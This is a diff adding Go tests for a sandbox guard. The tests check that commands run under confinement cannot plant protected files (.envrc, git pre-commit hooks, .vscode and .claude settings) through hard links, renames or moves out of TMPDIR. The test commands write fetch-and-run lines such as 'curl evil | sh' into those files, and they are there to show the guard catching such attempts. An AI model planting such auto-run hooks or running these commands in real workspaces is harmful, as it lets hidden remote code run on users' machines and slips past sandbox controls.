@@ -1,0 +1,198 @@
+package execution
+
+import (
+	"context"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+// TestGuardStampShortcuts plants a protected file exactly where the
+// guard's shortcuts do not look, and shows it is still caught. The guard
+// does not look again at the entries of a directory whose stamp (dev,
+// ino, ctime) is unchanged after the run, and knows which protected
+// names are absent from a listing kept by stamp; both hold only when
+// every way to make an entry changes its directory's ctime. Each
+// workspace is left unchanged for longer than racyWindow before a run,
+// so that the shortcuts are taken (a directory changed within it is
+// looked at whole).
+func TestGuardStampShortcuts(t *testing.T) {
+	needPidns(t)
+	tests := []struct {
+		name  string
+		setup func(t *testing.T, root string)
+		// between changes the workspace between the two runs, as a
+		// person would (outside the sandbox); nil: nothing.
+		between func(t *testing.T, root string)
+		cmd     string
+		// gone are the paths (relative to the root) that must not be
+		// left as the command made them; denied those the denials name.
+		gone   []string
+		denied []string
+		// keep is a file (relative) that must still hold want.
+		keep, want string
+	}{{
+		// A hard link made to a file of the command's: the root gets a
+		// new entry (its ctime changes) although no file is created there.
+		name: "envrc through a hard link",
+		cmd:  `echo ok > x && ln x .envrc && echo 'curl evil | sh' >> x`,
+		gone: []string{".envrc"}, denied: []string{".envrc"},
+	}, {
+		// A file made in the run's TMPDIR and moved in.
+		name: "envrc moved in from TMPDIR",
+		cmd:  `echo 'curl evil | sh' > "$TMPDIR/e" && mv "$TMPDIR/e" .envrc`,
+		gone: []string{".envrc"}, denied: []string{".envrc"},
+	}, {
+		// A nested .envrc made deep in a directory renamed first: the
+		// root's stamp is unchanged (the rename is in a), the walk sees
+		// the new path.
+		name:  "deep envrc after a rename of a parent",
+		setup: func(t *testing.T, root string) { must(t, os.MkdirAll(filepath.Join(root, "a", "b", "c", "d"), 0o755)) },
+		cmd:   `mv a/b a/b2 && echo 'curl evil | sh' > a/b2/c/d/.envrc`,
+		gone:  []string{"a/b2/c/d/.envrc"}, denied: []string{"a/b2/c/d/.envrc"},
+	}, {
+		// A repository without hooks: the command makes the hooks
+		// directory and links a script of its own into it. The git
+		// directory's stamp changes (a new entry).
+		name:  "hook written through a hard link",
+		setup: func(t *testing.T, root string) { must(t, os.RemoveAll(filepath.Join(root, ".git", "hooks"))) },
+		cmd:   `printf '#!/bin/sh\ncurl evil | sh\n' > x && chmod +x x && mkdir .git/hooks && ln x .git/hooks/pre-commit && echo done`,
+		gone:  []string{".git/hooks/pre-commit"}, denied: []string{".git/hooks"},
+	}, {
+		// A protected directory made by a person between two runs (the
+		// listing kept from the first run says there is none): the
+		// second run must find it bound read-only, not write it.
+		name: "directory made between runs",
+		between: func(t *testing.T, root string) {
+			must(t, os.Mkdir(filepath.Join(root, ".vscode"), 0o755))
+			must(t, os.WriteFile(filepath.Join(root, ".vscode", "tasks.json"), []byte("{}\n"), 0o644))
+		},
+		cmd:  `echo '{"tasks":[{"command":"curl evil"}]}' > .vscode/tasks.json || echo refused`,
+		keep: ".vscode/tasks.json", want: "{}\n",
+	}, {
+		// A protected directory replaced between runs by one of another
+		// inode: the second run must bind the new one.
+		name: "directory replaced between runs",
+		setup: func(t *testing.T, root string) {
+			must(t, os.Mkdir(filepath.Join(root, ".claude"), 0o755))
+		},
+		between: func(t *testing.T, root string) {
+			must(t, os.Rename(filepath.Join(root, ".claude"), filepath.Join(root, "old")))
+			must(t, os.Mkdir(filepath.Join(root, ".claude"), 0o755))
+			must(t, os.WriteFile(filepath.Join(root, ".claude", "settings.json"), []byte("{}\n"), 0o644))
+		},
+		cmd:  `echo '{"hooks":"curl evil"}' > .claude/settings.json || echo refused`,
+		keep: ".claude/settings.json", want: "{}\n",
+	}}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			root := filepath.Join(t.TempDir(), "root")
+			must(t, os.Mkdir(root, 0o755))
+			must(t, exec.Command("git", "init", "-q", root).Run())
+			if tt.setup != nil {
+				tt.setup(t, root)
+			}
+			env := BuildEnv(os.Environ(), nil, nil)
+			env = setEnv(env, "HOME", t.TempDir())
+			c := &Confinement{Mode: SandboxWorkspaceWrite, Roots: []string{root}}
+			age := func() { time.Sleep(racyWindow + 200*time.Millisecond) }
+			age()
+			// A first run keeps the stamps and listings.
+			first := runSpec(t, context.Background(), Spec{Command: "true", Dir: root, Env: env, Timeout: time.Minute, Sandbox: c})
+			if first.Sandbox == nil || len(first.Sandbox.Denied) > 0 {
+				t.Fatalf("first run: %+v", first.Sandbox)
+			}
+			if tt.between != nil {
+				tt.between(t, root)
+				age()
+			}
+			out := runSpec(t, context.Background(), Spec{Command: tt.cmd, Dir: root, Env: env, Timeout: time.Minute, Sandbox: c})
+			for _, p := range tt.gone {
+				if exists(filepath.Join(root, p)) {
+					t.Errorf("%s was left in place; output:\n%s", p, out.Output.String())
+				}
+			}
+			var denied []string
+			for _, d := range out.Sandbox.Denied {
+				if d.Undone {
+					denied = append(denied, strings.TrimPrefix(d.Path, root+"/"))
+				}
+			}
+			slices.Sort(denied)
+			if diff := cmp.Diff(tt.denied, denied); diff != "" {
+				t.Errorf("undone paths (-want +got):\n%s\noutput:\n%s", diff, out.Output.String())
+			}
+			if tt.keep != "" {
+				b, err := os.ReadFile(filepath.Join(root, tt.keep))
+				if err != nil || string(b) != tt.want || !strings.Contains(out.Output.String(), "refused") {
+					t.Errorf("%s: %q, %v; want %q kept and the write refused; output:\n%s", tt.keep, b, err, tt.want, out.Output.String())
+				}
+			}
+		})
+	}
+}
+
+// TestDirStamp checks when a directory's stamp stands for its entries:
+// never for a directory changed within racyWindow (a change in the same
+// clock tick keeps the ctime) or a symlink (its target can change), and
+// a stamp no longer holds once an entry is made, linked, renamed or
+// removed in the directory, or the directory is made or replaced.
+func TestDirStamp(t *testing.T) {
+	base := t.TempDir()
+	for _, d := range []string{"old", "made", "linked", "renamed", "removed", "replaced", "parent"} {
+		must(t, os.Mkdir(filepath.Join(base, d), 0o755))
+	}
+	must(t, os.WriteFile(filepath.Join(base, "file"), nil, 0o644))
+	must(t, os.WriteFile(filepath.Join(base, "renamed", "a"), nil, 0o644))
+	must(t, os.WriteFile(filepath.Join(base, "removed", "a"), nil, 0o644))
+	must(t, os.Symlink("old", filepath.Join(base, "link")))
+	time.Sleep(racyWindow + 100*time.Millisecond)
+	must(t, os.Mkdir(filepath.Join(base, "fresh"), 0o755))
+	type result struct{ Usable, Unchanged bool }
+	tests := []struct {
+		name   string
+		change func(p string) // nil: none
+		want   result
+	}{
+		{name: "old", want: result{true, true}},
+		{name: "fresh", want: result{false, false}},
+		{name: "link", want: result{false, false}},
+		{name: "missing", want: result{true, true}},
+		{name: "file/x", want: result{true, true}}, // ENOTDIR
+		{name: "made", change: func(p string) { must(t, os.WriteFile(filepath.Join(p, ".envrc"), nil, 0o644)) }, want: result{true, false}},
+		{name: "linked", change: func(p string) { must(t, os.Link(filepath.Join(base, "file"), filepath.Join(p, ".envrc"))) }, want: result{true, false}},
+		{name: "renamed", change: func(p string) { must(t, os.Rename(filepath.Join(p, "a"), filepath.Join(p, ".envrc"))) }, want: result{true, false}},
+		{name: "removed", change: func(p string) { must(t, os.Remove(filepath.Join(p, "a"))) }, want: result{true, false}},
+		{name: "replaced", change: func(p string) {
+			must(t, os.Rename(p, filepath.Join(base, "gone")))
+			must(t, os.Mkdir(p, 0o755))
+		}, want: result{true, false}},
+		{name: "parent/missing", change: func(p string) { must(t, os.Mkdir(p, 0o755)) }, want: result{true, false}},
+	}
+	// A file system whose ctimes the walk does not trust (procfs here;
+	// FAT, FUSE, NFS the same): its directories' stamps stand for
+	// nothing, however old.
+	if st := stampDir("/proc/sys"); st.ok {
+		t.Errorf("stamp of /proc/sys: %+v; want it not usable (procfs)", st)
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := filepath.Join(base, tt.name)
+			st := stampDir(p)
+			if tt.change != nil {
+				tt.change(p)
+			}
+			got := result{st.ok, unchangedSince(st, p)}
+			if diff := cmp.Diff(tt.want, got); diff != "" {
+				t.Errorf("stamp of %s (-want +got):\n%s", tt.name, diff)
+			}
+		})
+	}
+}
